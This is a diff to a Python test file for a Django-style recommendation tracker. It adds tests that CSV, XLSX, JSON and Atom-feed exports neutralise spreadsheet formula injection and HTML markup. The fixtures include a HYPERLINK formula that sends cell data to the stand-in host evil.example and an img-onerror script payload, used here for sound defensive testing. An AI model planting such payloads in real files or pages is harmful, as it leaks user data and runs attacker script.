@@ -11,7 +11,13 @@ from openpyxl import load_workbook
 from gcm_tracker.dashboards.exports import COLUMNS
 from gcm_tracker.tracker.enums import RecommendationStatus as Status
 from gcm_tracker.tracker.models import Recommendation
-from tests.factories import CountryFactory, PublishedActionFactory, set_status
+from tests.factories import (
+    ConsultationFactory,
+    CountryFactory,
+    PublishedActionFactory,
+    RecommendationFactory,
+    set_status,
+)
 
 from .pages import download_body
 
@@ -77,7 +83,7 @@ def test_xlsx_download_has_the_same_rows_and_a_column_guide(client, seed):
 def test_data_dictionary_explains_every_download_column(client):
     response = client.get(reverse("dashboards:data-dictionary"))
 
-    assert [c.name for c in response.context["columns"]] == HEADER
+    assert [c.name for c in response.context["tables"][0].columns] == HEADER
     assert "Creative Commons Attribution 4.0 International" in response.content.decode()
 
 
@@ -127,3 +133,91 @@ def test_action_feeds_for_site_and_country(client, seed):
 )
 def test_feed_for_unknown_scope_answers_404(client, seed, url):
     assert client.get(url).status_code == 404
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?x="&A1, "Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+]
+
+
+@pytest.fixture
+def formula_texts(db):
+    consultation = ConsultationFactory(slug="formulas")
+    return [
+        RecommendationFactory(consultation=consultation, paragraph=n, text=text).text
+        for n, text in enumerate(FORMULAS, start=1)
+    ]
+
+
+def test_item_9_csv_download_neutralises_formulas_with_an_apostrophe(client, formula_texts):
+    """Item 9: text a spreadsheet would run as a formula goes out prefixed with ' (OWASP)."""
+    response = _export(client, "csv", consultation="formulas")
+
+    lines = list(csv.reader(io.StringIO(download_body(response).decode(), newline="")))
+    texts = [line[HEADER.index("text")] for line in lines[1:]]
+    assert texts == [
+        '\'=HYPERLINK("https://evil.example/?x="&A1, "Click")',
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(1,2)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "#N/A",
+    ]
+    assert [line[HEADER.index("paragraph")] for line in lines[1:]] == [
+        "1",
+        "2",
+        "3",
+        "4",
+        "5",
+        "6",
+        "7",
+    ]
+
+
+def test_item_9_xlsx_download_stores_formula_text_as_text_cells(client, formula_texts):
+    response = _export(client, "xlsx", consultation="formulas")
+
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    text_column = HEADER.index("text") + 1
+    cells = [sheet.cell(row=r, column=text_column) for r in range(2, 2 + len(FORMULAS))]
+    # An XML reader may turn a carriage return into a line feed; the cell is text either way.
+    assert [(cell.data_type, cell.value.replace("\r", "\n")) for cell in cells] == [
+        ("s", text.replace("\r", "\n")) for text in FORMULAS
+    ]
+    assert [sheet.cell(row=r, column=HEADER.index("paragraph") + 1).data_type for r in (2, 3)] == [
+        "n",
+        "n",
+    ]
+
+
+def test_item_9_json_download_keeps_the_text_as_written(client, formula_texts):
+    response = _export(client, "json", consultation="formulas")
+
+    data = json.loads(download_body(response))
+    assert [r["text"] for r in data["recommendations"]] == FORMULAS
+
+
+def test_item_11_feeds_send_contributor_text_as_plain_text(client, seed, staff):
+    """Item 11: summaries are type="text", so markup typed into a description stays text."""
+    markup = 'Trained <b>officials</b> <img src=x onerror="alert(1)"> & more'
+    PublishedActionFactory(
+        description=markup, recommendations=[Recommendation.objects.get(paragraph=87)]
+    )
+    set_status(Recommendation.objects.get(paragraph=26), staff, reason="<i>Started</i>")
+
+    summaries = [
+        ET.fromstring(client.get(reverse(name)).content).find(f"{ATOM}entry/{ATOM}summary")
+        for name in ("dashboards:feed-actions", "dashboards:feed-status-changes")
+    ]
+
+    assert [(s.attrib, s.text) for s in summaries] == [
+        ({"type": "text"}, markup),
+        ({"type": "text"}, "<i>Started</i>"),
+    ]
